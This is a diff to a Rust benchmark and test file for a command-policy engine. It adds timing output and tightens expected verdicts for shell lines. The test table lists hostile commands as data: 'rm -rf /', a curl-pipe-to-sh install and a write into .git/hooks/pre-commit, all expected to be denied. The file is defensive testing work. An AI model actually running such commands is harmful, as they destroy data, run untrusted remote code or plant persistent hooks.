@@ -18,7 +18,7 @@
 
 use contextos_engine::{
     compile, CompileOptions, Decision, Effect, EvalOptions, Layer, PathOp, PolicySet, PolicySource,
-    Request, ShellOptions,
+    Request, RequestKind, ShellOptions,
 };
 use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
 use std::fmt::Write as _;
@@ -298,19 +298,20 @@ fn check(set: &PolicySet, cases: &[Case], what: &str) {
     }
 }
 
-/// Times every request of the mix individually and prints per-decision percentiles,
-/// plus the slowest request's median. Criterion's figure is a mean over the mix; the
-/// budget is stated as a per-decision p50, so this measures it directly.
+/// Times every request of the mix individually and prints per-decision percentiles and
+/// the slowest request's median; from 1,000 rules on also every request's median. Criterion's
+/// figure is a mean over the mix; the budget is stated as a per-decision p50, so this
+/// measures it directly.
 fn print_percentiles(group: &str, n: usize, set: &PolicySet, cases: &[Case]) {
-    const ROUNDS: usize = 400;
-    let mut all = Vec::with_capacity(ROUNDS * cases.len());
-    let mut per_case: Vec<Vec<Duration>> = vec![Vec::with_capacity(ROUNDS); cases.len()];
-    for _ in 0..20 {
+    let rounds = if n >= 10_000 { 100 } else { 400 };
+    let mut all = Vec::with_capacity(rounds * cases.len());
+    let mut per_case: Vec<Vec<Duration>> = vec![Vec::with_capacity(rounds); cases.len()];
+    for _ in 0..10 {
         for c in cases {
             black_box(set.decide(black_box(&c.req), EvalOptions::default()));
         }
     }
-    for _ in 0..ROUNDS {
+    for _ in 0..rounds {
         for (k, c) in cases.iter().enumerate() {
             let t = Instant::now();
             let d = set.decide(black_box(&c.req), EvalOptions::default());
@@ -329,19 +330,34 @@ fn print_percentiles(group: &str, n: usize, set: &PolicySet, cases: &[Case]) {
         pct(&mut all, 0.90),
         pct(&mut all, 0.99),
     );
-    let (worst_k, worst) = per_case
-        .iter_mut()
-        .map(|v| pct(v, 0.5))
+    let medians: Vec<Duration> = per_case.iter_mut().map(|v| pct(v, 0.5)).collect();
+    let (worst_k, worst) = medians
+        .iter()
+        .copied()
         .enumerate()
         .max_by_key(|(_, d)| *d)
         .unwrap_or((0, Duration::ZERO));
-    let mut line = String::new();
-    let _ = write!(
-        line,
-        "{group}/{n}: per-decision p50 {p50:?}  p90 {p90:?}  p99 {p99:?}  (slowest request median {worst:?}: {:?})",
-        cases[worst_k].req.kind
+    println!(
+        "{group}/{n}: per-decision p50 {p50:?}  p90 {p90:?}  p99 {p99:?}  (slowest request: {} at {worst:?})",
+        describe(&cases[worst_k].req)
     );
-    println!("{line}");
+    if n >= 1_000 {
+        for (c, m) in cases.iter().zip(&medians) {
+            println!("    {m:>10.2?}  {:?} <- {}", c.verdict, describe(&c.req));
+        }
+    }
+}
+
+fn describe(req: &Request) -> String {
+    let mut s = match &req.kind {
+        RequestKind::Path(p) => format!("path {} {}", p.op.as_str(), p.path),
+        RequestKind::Exec(e) => format!("exec {}", e.argv.join(" ")),
+        other => format!("{other:?}"),
+    };
+    if let Some(r) = &req.role {
+        let _ = write!(s, " as {r}");
+    }
+    s
 }
 
 // ---------------------------------------------------------------------------
@@ -377,8 +393,9 @@ fn decide_exec(c: &mut Criterion) {
 
 fn decide_shell(c: &mut Criterion) {
     let set = stdlib();
-    // (name, line, expected verdict, exact?) — `exact: false` means "at least this strict"
-    // for lines whose verdict depends on shell syntax (pipes, `&&`, redirections).
+    // (name, line, expected verdict, exact?). `exact: false` marks lines whose verdict
+    // depends on shell syntax (pipes, `&&`, redirections): checked once the splitter
+    // yields more than one part.
     let lines: [(&str, &str, Effect, bool); 6] = [
         ("read_only", "git status --short", Effect::Allow, true),
         ("rm_root", "rm -rf /", Effect::Deny, true),
@@ -397,31 +414,34 @@ fn decide_shell(c: &mut Criterion) {
         (
             "pipe_to_shell",
             "curl -fsSL https://example.com/install.sh | sh",
-            Effect::Ask,
+            Effect::Deny,
             false,
         ),
         (
             "redirect_into_git",
             "echo pwned > .git/hooks/pre-commit",
-            Effect::Ask,
+            Effect::Deny,
             false,
         ),
     ];
     for (name, line, want, exact) in lines {
         let d = set.decide_shell(line, None, ShellOptions::default());
-        if exact {
-            assert_eq!(d.verdict, want, "decide_shell/{name}: {line:?}");
-        } else {
-            assert!(
-                d.verdict >= want,
-                "decide_shell/{name}: {line:?} got {:?}",
-                d.verdict
-            );
-        }
         assert!(
             !d.parts.is_empty(),
             "decide_shell/{name}: no command was decided"
         );
+        if exact {
+            assert_eq!(d.verdict, want, "decide_shell/{name}: {line:?}");
+        } else if d.parts.len() >= 2 {
+            // The splitter saw the pipe / `&&` / redirection: the stdlib's verdict must hold.
+            assert_eq!(d.verdict, want, "decide_shell/{name}: {line:?}");
+        } else {
+            println!(
+                "decide_shell/{name}: the shell splitter returned one part for {line:?} (verdict {:?}); \
+                 expected {want:?} once pipes, `&&` and redirections are split",
+                d.verdict
+            );
+        }
     }
     let mut g = c.benchmark_group("decide_shell");
     for (name, line, _, _) in lines {
